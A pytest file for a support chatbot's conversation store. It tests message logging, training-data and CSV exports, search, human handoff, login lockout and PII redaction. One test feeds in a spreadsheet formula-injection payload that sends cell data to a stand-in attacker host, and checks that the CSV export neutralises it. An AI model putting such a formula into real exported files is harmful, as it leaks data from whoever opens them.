"""The conversation log store on SQLite and on a real PostgreSQL server, and how the turn pipeline
writes to it (customer message first, reply only when complete, redaction, failed writes)."""

from __future__ import annotations

import asyncio
import datetime as dt
import logging

import pytest

from chatbot.errors import InvalidInputError, NotFoundError, StoreError
from chatbot.store import Conversation, Feedback, Handoff, Message, Store
from tests.chatbot.fakes import ScriptedEngine, make_assistant
from tests.chatbot.pg import db_url, store  # noqa: F401  (fixtures)

UTC = dt.timezone.utc


def _conv(store: Store, texts: list[tuple[str, str]], **msg_fields) -> str:
    """A conversation with the given (role, text) messages; returns its id."""
    c = store.create_conversation(channel="web")
    for role, text in texts:
        store.add_message(Message(conversation_id=c.id, role=role, text=text, **msg_fields))
    return c.id


# ------------------------------------------------------------------------------ messages


def test_sqlite_store_runs_in_wal_mode_with_a_busy_timeout(tmp_path):
    s = Store(f"sqlite:///{tmp_path / 'a.db'}")
    with s.engine.connect() as c:
        assert c.exec_driver_sql("PRAGMA journal_mode").scalar() == "wal"
        assert c.exec_driver_sql("PRAGMA busy_timeout").scalar() == 10000
        assert c.exec_driver_sql("PRAGMA foreign_keys").scalar() == 1
    s.close()


def test_messages_round_trip_in_order_with_their_fields(store):
    c = store.create_conversation(channel="web", customer_ref="cust-42")
    u = store.add_message(Message(conversation_id=c.id, role="user", text="Où est ma commande ? 😀", request_id="r1",
                                  intent="order_status", confidence=0.87,
                                  slots=[{"type": "order_id", "value": "A-1", "start": 0, "end": 3, "score": 0.9}],
                                  action="answer"))
    a = store.add_message(Message(conversation_id=c.id, role="assistant", text="It ships today [1].", request_id="r1",
                                  chunk_ids=["12", "7"], chunk_scores=[0.81, 0.5], index_version="v3",
                                  adapter_version="ad-1", latency_ms=123.5, prompt_tokens=300, completion_tokens=9))
    assert u.id < a.id
    msgs = store.messages(c.id)
    assert [(m.role, m.text) for m in msgs] == [("user", "Où est ma commande ? 😀"),
                                                ("assistant", "It ships today [1].")]
    assert msgs[0].intent == "order_status" and msgs[0].confidence == pytest.approx(0.87)
    assert msgs[0].slots[0]["value"] == "A-1"
    assert msgs[1].chunk_ids == ["12", "7"] and msgs[1].chunk_scores == [0.81, 0.5]
    assert (msgs[1].index_version, msgs[1].adapter_version, msgs[1].completion_tokens) == ("v3", "ad-1", 9)
    conv = store.get_conversation(c.id)
    assert conv.customer_ref == "cust-42" and conv.status == "bot"
    assert msgs[0].created_at.tzinfo is not None


def test_a_retried_write_is_stored_once(store):
    cid = store.create_conversation().id
    m = Message(conversation_id=cid, role="user", text="hello", request_id="req-1")
    first = store.add_message(m)
    again = store.add_message(Message(conversation_id=cid, role="user", text="hello", request_id="req-1"))
    assert again.id == first.id
    reply = store.add_message(Message(conversation_id=cid, role="assistant", text="hi", request_id="req-1"))
    assert reply.id != first.id  # same turn, other role
    assert store.count(Message) == 2


def test_add_message_errors_name_the_problem(store):
    with pytest.raises(NotFoundError, match="'nope' does not exist"):
        store.add_message(Message(conversation_id="nope", role="user", text="x"))
    cid = store.create_conversation().id
    with pytest.raises(InvalidInputError, match="role must be one of .* got 'robot'"):
        store.add_message(Message(conversation_id=cid, role="robot", text="x"))
    assert store.count(Message) == 0


def test_a_customer_message_reopens_a_closed_conversation(store):
    cid = _conv(store, [("user", "hi"), ("assistant", "hello")])
    store.release_handoff(cid, close=True)
    assert store.get_conversation(cid).status == "closed"
    assert store.get_conversation(cid).ended_at is not None
    store.add_message(Message(conversation_id=cid, role="user", text="one more thing"))
    conv = store.get_conversation(cid)
    assert conv.status == "bot" and conv.ended_at is None


# ------------------------------------------------------------------------------ feedback, review, export


def test_feedback_latest_rating_wins_and_can_be_removed(store):
    cid = _conv(store, [("user", "q"), ("assistant", "a")])
    reply = store.messages(cid)[1]
    store.add_feedback(cid, reply.id, 1)
    store.add_feedback(cid, reply.id, -1, "wrong policy")
    rows = store._read("x", lambda s: list(s.exec(__import__("sqlmodel").select(Feedback)).all()))
    assert [(f.rating, f.comment) for f in rows] == [(-1, "wrong policy")]
    store.add_feedback(cid, reply.id, None)
    assert store.count(Feedback) == 0


def test_feedback_is_refused_on_customer_messages_and_other_conversations(store):
    cid = _conv(store, [("user", "q"), ("assistant", "a")])
    other = _conv(store, [("user", "q2")])
    user_msg, reply = store.messages(cid)
    with pytest.raises(InvalidInputError, match="customer message"):
        store.add_feedback(cid, user_msg.id, 1)
    with pytest.raises(NotFoundError, match=f"does not exist in conversation '{other}'"):
        store.add_feedback(other, reply.id, 1)
    with pytest.raises(InvalidInputError, match="rating must be 1 .* got 5"):
        store.add_feedback(cid, reply.id, 5)
    assert store.count(Feedback) == 0


def test_annotations_feed_the_sft_export_and_approved_only_cuts_after_the_last_approved_turn(store):
    staff = store.add_user("sam", "x" * 20, "staff")
    cid = _conv(store, [("user", "How do I return shoes?"), ("assistant", "Sorry, no idea."),
                        ("user", "And a refund?"), ("assistant", "Refunds take 5 days."),
                        ("user", "thanks"), ("assistant", "Bye")])
    msgs = store.messages(cid)
    store.annotate(msgs[1].id, staff.id, "Use the return form within 30 days [1].", approved=True)
    store.annotate(msgs[3].id, staff.id, approved=True)
    unapproved = _conv(store, [("user", "hi"), ("assistant", "hello")])

    full = store.sft_examples([cid])
    assert full == [{"id": f"store:{cid}", "messages": [
        {"role": "user", "content": "How do I return shoes?"},
        {"role": "assistant", "content": "Use the return form within 30 days [1]."},
        {"role": "user", "content": "And a refund?"},
        {"role": "assistant", "content": "Refunds take 5 days."},
        {"role": "user", "content": "thanks"},
        {"role": "assistant", "content": "Bye"}]}]
    approved = store.sft_examples(None, approved_only=True, system_prompt="SYS")
    assert [e["id"] for e in approved] == [f"store:{cid}"]
    assert approved[0]["messages"][0] == {"role": "system", "content": "SYS"}
    assert approved[0]["messages"][-1] == {"role": "assistant", "content": "Refunds take 5 days."}
    assert len(approved[0]["messages"]) == 5
    t = store.transcript(cid)
    ann = t["messages"][1]["annotation"]
    assert ann == {"corrected_text": "Use the return form within 30 days [1].", "approved": True, "author": "sam",
                   "approved_by": "sam"}
    # withdrawing approval removes it from the training export
    store.annotate(msgs[1].id, staff.id, approved=False)
    store.annotate(msgs[3].id, staff.id, approved=False)
    assert store.sft_examples(None, approved_only=True) == []
    assert store.sft_examples([unapproved])[0]["messages"][1]["content"] == "hello"


def test_sft_jsonl_export_to_a_file_and_to_a_stream(store, tmp_path):
    import io
    import json

    staff = store.add_user("sam", "x" * 20, "staff")
    a = _conv(store, [("user", "Where is my order?"), ("assistant", "It shipped.")])
    b = _conv(store, [("user", "Refund?"), ("assistant", "Yes."), ("user", "thanks"), ("assistant", "Bye.")])
    _conv(store, [("user", "no reply yet")])
    store.annotate(store.messages(b)[1].id, staff.id, "Yes, within 30 days.", approved=True)
    path = tmp_path / "new" / "folder" / "sft.jsonl"
    assert store.export_sft_jsonl(path, system_prompt="Be kind.") == 2
    lines = [json.loads(x) for x in path.read_text(encoding="utf-8").splitlines()]
    assert [x["id"] for x in lines] == [f"store:{a}", f"store:{b}"]
    assert lines == store.sft_examples(system_prompt="Be kind.")
    assert lines[1]["messages"][:3] == [{"role": "system", "content": "Be kind."},
                                        {"role": "user", "content": "Refund?"},
                                        {"role": "assistant", "content": "Yes, within 30 days."}]
    assert [p.name for p in path.parent.iterdir()] == ["sft.jsonl"]  # no temporary file left
    buf = io.StringIO()
    assert store.export_sft_jsonl(buf, approved_only=True) == 1
    assert json.loads(buf.getvalue())["messages"] == [{"role": "user", "content": "Refund?"},
                                                      {"role": "assistant", "content": "Yes, within 30 days."}]
    assert store.export_sft_jsonl(path, conversation_ids=[]) == 0 and path.read_text() == ""


def test_sft_export_joins_staff_replies_and_drops_a_trailing_customer_message(store):
    staff = store.add_user("sam", "x" * 20, "staff")
    cid = _conv(store, [("user", "I want a person"), ("user", "now please")])
    store.staff_reply(cid, staff.id, "Hi, this is Sam.")
    store.add_message(Message(conversation_id=cid, role="user", text="ok bye"))
    ex = store.sft_examples([cid])[0]["messages"]
    assert ex == [{"role": "user", "content": "I want a person\nnow please"},
                  {"role": "assistant", "content": "Hi, this is Sam."}]


def test_export_rows_and_csv_hold_every_message_with_review_and_feedback(store):
    import csv
    import io

    from chatbot.review import CSV_FIELDS, export_csv, export_jsonl

    staff = store.add_user("sam", "x" * 20, "staff")
    cid = _conv(store, [("user", 'Say "hi", please'), ("assistant", "hi")],
                citations=[{"number": 1, "doc_id": "a.md", "title": "A", "source": "a.md", "score": 0.5}])
    reply = store.messages(cid)[1]
    store.add_feedback(cid, reply.id, -1, "rude")
    store.annotate(reply.id, staff.id, "Hello! How can I help?", approved=True)
    rows = list(csv.DictReader(io.StringIO(export_csv(store, [cid]))))
    assert tuple(rows[0]) == CSV_FIELDS
    assert [r["role"] for r in rows] == ["user", "assistant"]
    assert rows[0]["text"] == 'Say "hi", please'
    assert (rows[1]["corrected_text"], rows[1]["approved"], rows[1]["rating"], rows[1]["comment"]) == (
        "Hello! How can I help?", "True", "-1", "rude")
    assert rows[1]["cited_docs"] == "a.md"
    lines = export_jsonl(store, [cid]).splitlines()
    assert len(lines) == 1 and '"Hello! How can I help?"' in lines[0]



FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A2,"open")', "@SUM(1+1)", "+1+2", "-2+3"]


def test_csv_export_neutralises_formulas_and_jsonl_keeps_the_exact_text(store):
    import csv
    import io
    import json

    from chatbot.review import export_csv, export_jsonl

    staff = store.add_user("sam", "x" * 20, "staff")
    texts = [*FORMULAS, "\tindented", "a = b, fine"]
    cid = _conv(store, [("user", t) for t in texts])
    store.add_message(Message(conversation_id=cid, role="assistant", text="ok"))
    reply = store.messages(cid)[-1]
    store.add_feedback(cid, reply.id, -1, "=1+1")
    store.annotate(reply.id, staff.id, "@me", approved=True)
    rows = list(csv.DictReader(io.StringIO(export_csv(store, [cid]))))
    assert [r["text"] for r in rows] == ['\'=HYPERLINK("http://evil.example/?d="&A2,"open")', "'@SUM(1+1)", "'+1+2",
                                         "'-2+3", "'\tindented", "a = b, fine", "ok"]
    assert (rows[-1]["comment"], rows[-1]["corrected_text"], rows[-1]["rating"]) == ("'=1+1", "'@me", "-1")
    lines = [json.loads(x) for x in export_jsonl(store, [cid]).splitlines()]
    # consecutive customer messages are joined into one user turn; the formulas keep their exact text
    assert lines[0]["messages"][0]["content"].split("\n")[:4] == FORMULAS


def test_search_for_a_nul_character_matches_nothing(store):
    a = _conv(store, [("user", "hello"), ("assistant", "hi")])
    _conv(store, [("user", "where is my order")])
    assert len(store.search_conversations()) == 2
    for q in ("\x00", "hello\x00", "\x00\x00"):
        assert store.search_conversations(text=q) == [], repr(q)
    assert store.search_conversations(intent="\x00") == []
    assert [r["id"] for r in store.search_conversations(text="HELLO")] == [a]
    assert store.search_conversations(text="\x01") == []  # other control characters are searched literally

def test_search_filters_combine(store):
    a = _conv(store, [("user", "Where is my ORDER 100%?"), ("assistant", "Shipped.")], intent=None)
    b = store.create_conversation(channel="api").id
    store.add_message(Message(conversation_id=b, role="user", text="refund please", intent="refund", confidence=0.9))
    store.add_message(Message(conversation_id=b, role="assistant", text="ok"))
    store.add_feedback(b, store.messages(b)[1].id, -1)
    store.request_handoff(b, "customer_request")
    old = Conversation(channel="web", started_at=dt.datetime(2020, 1, 2, 12, tzinfo=UTC))
    store._write("x", lambda s: s.add(old))

    def ids(**kw):
        return {r["id"] for r in store.search_conversations(**kw)}

    assert ids() == {a, b, old.id}
    assert ids(text="order 100%") == {a}  # case-insensitive, % taken literally
    assert ids(text="100_") == set()
    assert ids(intent="refund") == {b}
    assert ids(status="handoff") == {b}
    assert ids(feedback="down") == {b} and ids(feedback="up") == set()
    assert ids(feedback="none") == {a, old.id}
    assert ids(until=dt.datetime(2021, 1, 1, tzinfo=UTC)) == {old.id}
    assert ids(since=dt.datetime(2021, 1, 1, tzinfo=UTC)) == {a, b}
    row = next(r for r in store.search_conversations(intent="refund"))
    assert (row["messages"], row["intents"], row["down"], row["preview"]) == (2, ["refund"], 1, "refund please")
    with pytest.raises(InvalidInputError, match="status must be one of .* got 'open'"):
        store.search_conversations(status="open")
    with pytest.raises(InvalidInputError, match="feedback must be one of .* got 'meh'"):
        store.search_conversations(feedback="meh")


# ------------------------------------------------------------------------------ handoff


def test_handoff_lifecycle(store):
    sam = store.add_user("sam", "x" * 20, "staff")
    cid = store.create_conversation().id
    store.add_message(Message(conversation_id=cid, role="user", text="I was charged twice", intent="billing"))
    h = store.request_handoff(cid, "handoff_intent")
    assert store.request_handoff(cid, "customer_request").id == h.id  # idempotent while pending
    assert (h.intent, store.get_conversation(cid).status) == ("billing", "handoff")
    q = store.handoff_queue()
    assert [(r["conversation_id"], r["status"], r["preview"]) for r in q] == [(cid, "open", "I was charged twice")]
    store.take_handoff(cid, sam.id)
    assert store.get_conversation(cid).status == "human"
    assert store.handoff_queue()[0]["assigned_to"] == "sam"
    m = store.staff_reply(cid, sam.id, "  I refunded one charge.  ")
    assert (m.role, m.text, m.author_id) == ("staff", "I refunded one charge.", sam.id)
    assert [x.text for x in store.messages_after(cid, 0, roles=("staff",))] == ["I refunded one charge."]
    assert store.messages_after(cid, m.id) == []
    store.release_handoff(cid)
    assert store.get_conversation(cid).status == "bot"
    assert store.handoff_queue() == []
    hs = store.transcript(cid)["handoffs"]
    assert [(x["status"], x["assigned_to"]) for x in hs] == [("returned", "sam")]
    with pytest.raises(InvalidInputError, match="must not be empty"):
        store.staff_reply(cid, sam.id, "   ")


def test_a_handoff_without_a_conversation_opens_one(store):
    h = store.request_handoff(None, "customer_request", channel="web")
    conv = store.get_conversation(h.conversation_id)
    assert (conv.status, conv.channel) == ("handoff", "web")
    with pytest.raises(NotFoundError):
        store.request_handoff("missing", "customer_request")


def test_status_changes_only_through_change_status_and_refuses_an_unknown_event(store):
    from chatbot.store import STATUS_EVENTS, change_status
    from chatbot.store.conversations import _conversation

    cid = _conv(store, [("user", "hi")])
    with pytest.raises(InvalidInputError, match="event must be one of .* got 'reopen'"):
        store._write("x", lambda s: change_status(s, _conversation(s, cid), "reopen"))
    seen = []
    for event in ("handoff", "take", "hand_back", "close", "customer_message"):
        store._write("x", lambda s, e=event: change_status(s, _conversation(s, cid), e))
        seen.append(store.get_conversation(cid).status)
    assert seen == ["handoff", "human", "bot", "closed", "bot"]
    assert [h["status"] for h in store.transcript(cid)["handoffs"]] == ["returned"]  # close found none pending
    assert set(STATUS_EVENTS) == {"customer_message", "handoff", "take", "staff_reply", "hand_back", "close"}


# ------------------------------------------------------------------------------ analytics


def test_analytics_figures(store):
    day1 = dt.datetime(2026, 3, 1, 10, tzinfo=UTC)
    day2 = dt.datetime(2026, 3, 2, 10, tzinfo=UTC)

    def conv(when, intent, question, answered, handoff=False, rating=None):
        c = Conversation(channel="web", started_at=when)
        store._write("x", lambda s: s.add(c))
        store.add_message(Message(conversation_id=c.id, role="user", text=question, intent=intent))
        r = store.add_message(Message(conversation_id=c.id, role="assistant", text="...",
                                      chunk_ids=["1"] if answered else []))
        if rating:
            store.add_feedback(c.id, r.id, rating)
        if handoff:
            store.request_handoff(c.id, "low_confidence")

    conv(day1, "refund", "Refund status?", True, rating=1)
    conv(day1, "refund", "refund  STATUS?", False, handoff=True, rating=-1)
    conv(day1, "shipping", "Do you ship to Mars?", False, rating=1)
    conv(day2, "shipping", "do you ship to mars?", False)
    conv(day2, "billing", "Why two charges?", True, handoff=True)
    a = store.analytics()
    assert a["per_day"] == [
        {"day": "2026-03-01", "conversations": 3, "handoffs": 1, "up": 2, "down": 1},
        {"day": "2026-03-02", "conversations": 2, "handoffs": 1, "up": 0, "down": 0},
    ]
    assert (a["conversations"], a["handed_off"]) == (5, 2)
    assert a["deflection"] == pytest.approx(3 / 5)
    assert a["thumbs_up_rate"] == pytest.approx(2 / 3)
    rates = {r["intent"]: (r["conversations"], r["handoffs"], r["rate"]) for r in a["handoff_by_intent"]}
    assert rates == {"billing": (1, 1, 1.0), "refund": (2, 1, 0.5), "shipping": (2, 0, 0.0)}
    assert a["unanswered"][0] == {"question": "Do you ship to Mars?", "count": 2}
    assert a["unanswered"][1]["count"] == 1
    only2 = store.analytics(since=dt.datetime(2026, 3, 2, tzinfo=UTC))
    assert only2["conversations"] == 2 and only2["deflection"] == pytest.approx(0.5)
    empty = store.analytics(since=dt.datetime(2030, 1, 1, tzinfo=UTC))
    assert empty["conversations"] == 0 and empty["deflection"] is None


# ------------------------------------------------------------------------------ users and sessions


def test_users_and_sessions(store):
    from chatbot.auth import Auth, token_hash, verify_password

    auth = Auth(store, session_hours=1)
    u = auth.add_user("olga", "correct horse battery", "operator")
    assert u.password_hash.startswith("$argon2id$") and "correct" not in u.password_hash
    assert verify_password(u.password_hash, "correct horse battery")
    with pytest.raises(InvalidInputError, match="username 'olga' is taken"):
        auth.add_user("olga", "another password")
    with pytest.raises(InvalidInputError, match="at least 8 characters, got 3"):
        auth.add_user("bob", "abc")
    token, user = auth.login("olga", "correct horse battery")
    assert auth.user_for_token(token).username == "olga"
    stored = store._read("x", lambda s: [a.token_hash for a in s.exec(__import__("sqlmodel").select(
        __import__("chatbot.store", fromlist=["AuthSession"]).AuthSession)).all()])
    assert stored == [token_hash(token)] and token not in stored
    auth.logout(token)
    assert auth.user_for_token(token) is None
    # an expired session does not log in
    store.create_session(user.id, token_hash("old-token"), dt.datetime.now(UTC) - dt.timedelta(seconds=1))
    assert auth.user_for_token("old-token") is None
    # a password change ends the sessions
    token2, _ = auth.login("olga", "correct horse battery")
    auth.set_password("olga", "a new long password")
    assert auth.user_for_token(token2) is None


def test_login_failures_lock_the_name_out(store):
    from chatbot.auth import Auth
    from chatbot.errors import AuthError

    auth = Auth(store, max_failures=3, lockout_s=60)
    auth.add_user("sam", "right password", "staff")
    for _ in range(3):
        with pytest.raises(AuthError, match="wrong user name or password"):
            auth.login("sam", "wrong")
    with pytest.raises(AuthError, match="too many failed logins"):
        auth.login("sam", "right password")
    with pytest.raises(AuthError, match="wrong user name or password"):
        auth.login("nobody", "whatever1")


# ------------------------------------------------------------------------------ the turn pipeline's writes


def test_customer_message_is_stored_before_the_reply_exists(tmp_path):
    engine = ScriptedEngine(delay=0.05)
    a = make_assistant(tmp_path, engine)

    async def run():
        turn = await a.start_turn(None, "How do I return an item?")
        # accepted: the customer's message is already stored; no reply yet
        assert [(m.role, m.text) for m in a.store.messages(turn.conversation_id)] == [
            ("user", "How do I return an item?")]
        text = "".join([d async for d in turn.stream()])
        return turn, text

    turn, text = asyncio.run(run())
    msgs = a.store.messages(turn.conversation_id)
    assert [(m.role, m.text) for m in msgs] == [("user", "How do I return an item?"), ("assistant", text)]
    assert msgs[0].request_id == msgs[1].request_id == turn.request_id
    assert turn.user_message_id == msgs[0].id and turn.message_id == msgs[1].id


def test_a_failed_generation_keeps_the_customer_message_and_stores_no_reply(tmp_path):
    engine = ScriptedEngine(fail_after=2)
    a = make_assistant(tmp_path, engine)

    async def run():
        turn = await a.start_turn(None, "Tell me about refunds")
        parts = []
        with pytest.raises(RuntimeError, match="scripted engine failure"):
            async for d in turn.stream():
                parts.append(d)
        return turn, parts

    turn, parts = asyncio.run(run())
    assert len(parts) == 2  # two words went out before the failure
    assert [(m.role, m.text) for m in a.store.messages(turn.conversation_id)] == [("user", "Tell me about refunds")]
    engine.fail_after = None  # the slot was released: the next turn runs
    nxt = asyncio.run(a.respond(turn.conversation_id, "hello?"))
    assert [m.role for m in a.store.messages(turn.conversation_id)] == ["user", "user", "assistant"]
    assert nxt.text


def test_an_aborted_stream_stores_no_half_reply(tmp_path):
    a = make_assistant(tmp_path, ScriptedEngine(reply="one two three four five six", delay=0.02))

    async def run():
        turn = await a.start_turn(None, "Count please")
        agen = turn.stream()
        await agen.__anext__()
        await agen.aclose()  # the client went away
        return turn

    turn = asyncio.run(run())
    assert [m.role for m in a.store.messages(turn.conversation_id)] == ["user"]


def test_pii_is_redacted_before_it_is_written_anywhere(tmp_path, caplog):
    caplog.set_level(logging.DEBUG)
    a = make_assistant(tmp_path, ScriptedEngine(reply="I emailed jane.roe@example.org about it."))
    raw = "I'm Maria Lopez, mail me at maria.lopez@example.com or call +1 (555) 867-5309, card 4111 1111 1111 1111"
    turn = asyncio.run(a.respond(None, raw))
    assert "jane.roe@example.org" in turn.text  # the customer still sees the reply as generated
    user, reply = a.store.messages(turn.conversation_id)
    assert user.text == "I'm [NAME], mail me at [EMAIL] or call [PHONE], card [CARD]"
    assert user.redactions == {"name": 1, "email": 1, "phone": 1, "card": 1}
    assert reply.text == "I emailed [EMAIL] about it."
    a.store.close()
    secrets = [b"maria.lopez@example.com", b"867-5309", b"4111 1111 1111 1111", b"Maria Lopez", b"jane.roe@example"]
    for f in (tmp_path / "var").glob("chatbot.db*"):  # the database, its WAL and shared memory
        data = f.read_bytes()
        assert not any(s in data for s in secrets), f.name
    assert not any(s.decode() in caplog.text for s in secrets)


def test_redaction_can_be_turned_off(tmp_path):
    a = make_assistant(tmp_path, redact_pii=False)
    turn = asyncio.run(a.respond(None, "mail me at bob@example.com"))
    assert a.store.messages(turn.conversation_id)[0].text == "mail me at bob@example.com"


def test_a_failed_log_write_does_not_break_the_reply_and_is_written_later(tmp_path, monkeypatch, caplog):
    a = make_assistant(tmp_path)
    real = a.store.add_message
    broken = {"on": True}

    def flaky(message, **kw):
        if broken["on"]:
            raise StoreError("cannot store the message: disk I/O error")
        return real(message, **kw)

    monkeypatch.setattr(a.store, "add_message", flaky)
    turn = asyncio.run(a.respond(None, "Where is my parcel?"))
    assert turn.text == "You can return it within 30 days [1]."  # the customer got the reply
    assert turn.message_id is None and a.log.pending == 2
    assert "could not store the message" in caplog.text
    body, _ = a.metrics.render()
    assert b"chatbot_store_write_failures_total 2.0" in body
    broken["on"] = False
    assert a.log.flush() == 2
    assert [(m.role, m.text) for m in a.store.messages(turn.conversation_id)] == [
        ("user", "Where is my parcel?"), ("assistant", "You can return it within 30 days [1].")]
    assert a.log.pending == 0
    assert a.log.flush() == 0  # nothing twice


def test_record_turn_still_writes_both_messages_in_one_transaction(store):
    conv, u, r = store.record_turn("c1", "hi", Message(conversation_id="", role="assistant", text="hello"), new=True)
    assert [m.role for m in store.messages("c1")] == ["user", "assistant"]
    with pytest.raises(StoreError):  # the same new id again: nothing of the second turn is written
        store.record_turn("c1", "again", Message(conversation_id="", role="assistant", text="x"), new=True)
    assert store.count(Message) == 2 and store.count(Handoff) == 0
